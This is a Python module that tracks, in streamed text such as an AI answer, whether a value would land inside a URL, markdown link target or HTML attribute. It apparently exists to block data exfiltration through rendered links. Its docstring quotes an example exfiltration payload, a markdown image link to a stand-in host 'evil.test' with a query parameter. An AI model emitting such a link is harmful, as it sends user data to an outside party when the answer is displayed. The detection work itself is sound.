"""Where a text is inside an address that a client would open or show as a link.

A vendor that writes `![x](https://evil.test/?q=` before a placeholder would be sent the value as soon as the answer is
shown. This reads an answer from its beginning, a piece at a time, in constant memory, and knows at each point whether
what follows belongs to an address: a markdown target (CommonMark 6.3, 4.7), an HTML attribute value (WHATWG HTML
13.2.5) or a bare address (GFM 6.9). Where readers of markdown and HTML could disagree, each reading is followed at
once; the answer is yes when one of them says yes.
"""

from __future__ import annotations

import re

_PIECE = re.compile(r"\w+|\W")
_HTML_SPACE = frozenset("\t\n\f\r ")
_SPACE = _HTML_SPACE | {"\v"}
_WORD = 96  # characters of a word that are looked at for the beginning of an address
_MAX_TARGETS = 32  # open at once; more is an attack, and then nothing is put back any more
_ADDRESS = re.compile(
    r"(?:[a-z][a-z0-9+.-]*://|\b(?:https?|ftp|mailto|xmpp):|\bwww\.|(?:^|[({\"'=\[])//)$", re.IGNORECASE
)
_HOST = re.compile(r"\w\.(?:[^\W\d_][\w-]{1,23}|\d{1,3}\.\d{1,3}\.\d{1,3})(?::\d{1,5})?[/?#]$")

# The tokenizer's states within a tag: Name, Before name, After name, before Value, Unquoted, Double, Single; "" is out.
_TAG: dict[str, dict[str, str]] = {
    "T": {" ": "B", "/": "B", ">": ""},
    "B": {" ": "B", "/": "B", ">": "", "": "N"},
    "N": {" ": "A", "/": "B", ">": "", "=": "V"},
    "A": {" ": "A", "/": "B", ">": "", "=": "V", "": "N"},
    "V": {" ": "V", ">": "", '"': "D", "'": "S", "": "U"},
    "U": {" ": "B", ">": ""},
    "D": {'"': "B"},
    "S": {"'": "B"},
}
_VALUES = frozenset("VUDS")


class Links:
    """One text, read from its beginning. `read` what is given out, ask `inside` before each value."""

    def __init__(self) -> None:
        self._word = ""
        self._linked = False
        self._tags: frozenset[str] = frozenset()
        self._targets: list[_Target] = []
        self._flooded = False
        self._last = ""

    def inside(self, value: str) -> bool:
        """True when `value`, given out now, would stand in an address."""
        return (
            self._linked
            or self._flooded
            or not self._tags.isdisjoint(_VALUES)
            or any(target.takes(value) for target in self._targets)
        )

    def read(self, text: str) -> None:
        """Go on by `text`."""
        for piece in _PIECE.findall(text):
            self._read_word(piece)
            if self._tags or self._last == "<":
                self._read_tag(piece)
            if self._targets or self._last == "]":
                self._read_target(piece)
            self._last = piece

    def _read_word(self, piece: str) -> None:
        if piece in _HTML_SPACE:
            self._word, self._linked = "", False
            return
        self._word = (self._word + ("/" if piece == "\\" else piece))[-_WORD:]  # browsers read \ as /
        if not self._linked and piece in "/\\:.?#":
            host = "@" not in self._word and _HOST.search(self._word)
            self._linked = bool(host or _ADDRESS.search(self._word))

    def _read_tag(self, piece: str) -> None:
        if self._tags:
            sign = " " if piece in _HTML_SPACE else piece if piece in "/>=\"'" else ""
            moved = (_TAG[state].get(sign, _TAG[state].get("", state)) for state in self._tags)
            self._tags = frozenset(state for state in moved if state)
        if self._last == "<" and piece[0].isascii() and piece[0].isalpha():
            self._tags |= {"T"}

    def _read_target(self, piece: str) -> None:
        self._targets = [target for target in self._targets if target.goes_on(piece)]
        if self._last == "]" and piece in "(:":
            self._flooded = self._flooded or len(self._targets) >= _MAX_TARGETS
            if not self._flooded:
                self._targets.append(_Target(definition=piece == ":"))


class _Target:
    """What follows `](` up to its `)`, or what follows `]:` up to the space after it."""

    def __init__(self, *, definition: bool) -> None:
        self._definition = definition
        self._fresh = True  # nothing but space so far
        self._angle = False  # between < and >
        self._escaped = False
        self._depth = 0
        self._line_empty = False

    def takes(self, value: str) -> bool:
        # "[10:32]: Jane" is no link definition worth withholding: a first word that names no host goes nowhere.
        return not (self._definition and self._fresh and not any(sign in value for sign in ":/\\"))

    def goes_on(self, piece: str) -> bool:
        """Read on; False when the target has ended."""
        if piece in _SPACE:
            return self._space(piece)
        self._line_empty = False
        fresh, self._fresh = self._fresh, False
        if self._escaped or piece == "\\":
            self._escaped = not self._escaped
        elif fresh and piece == "<":
            self._angle = True
        elif self._angle:
            self._angle = piece != ">"
            return self._angle or not self._definition
        elif not self._definition:
            self._depth += (piece == "(") - (piece == ")")
        return self._depth >= 0

    def _space(self, piece: str) -> bool:
        self._escaped = False
        if piece == "\n":
            if self._line_empty:
                return False  # neither goes on beyond its paragraph
            self._line_empty, self._angle = True, False
        return not self._definition or self._fresh or self._angle
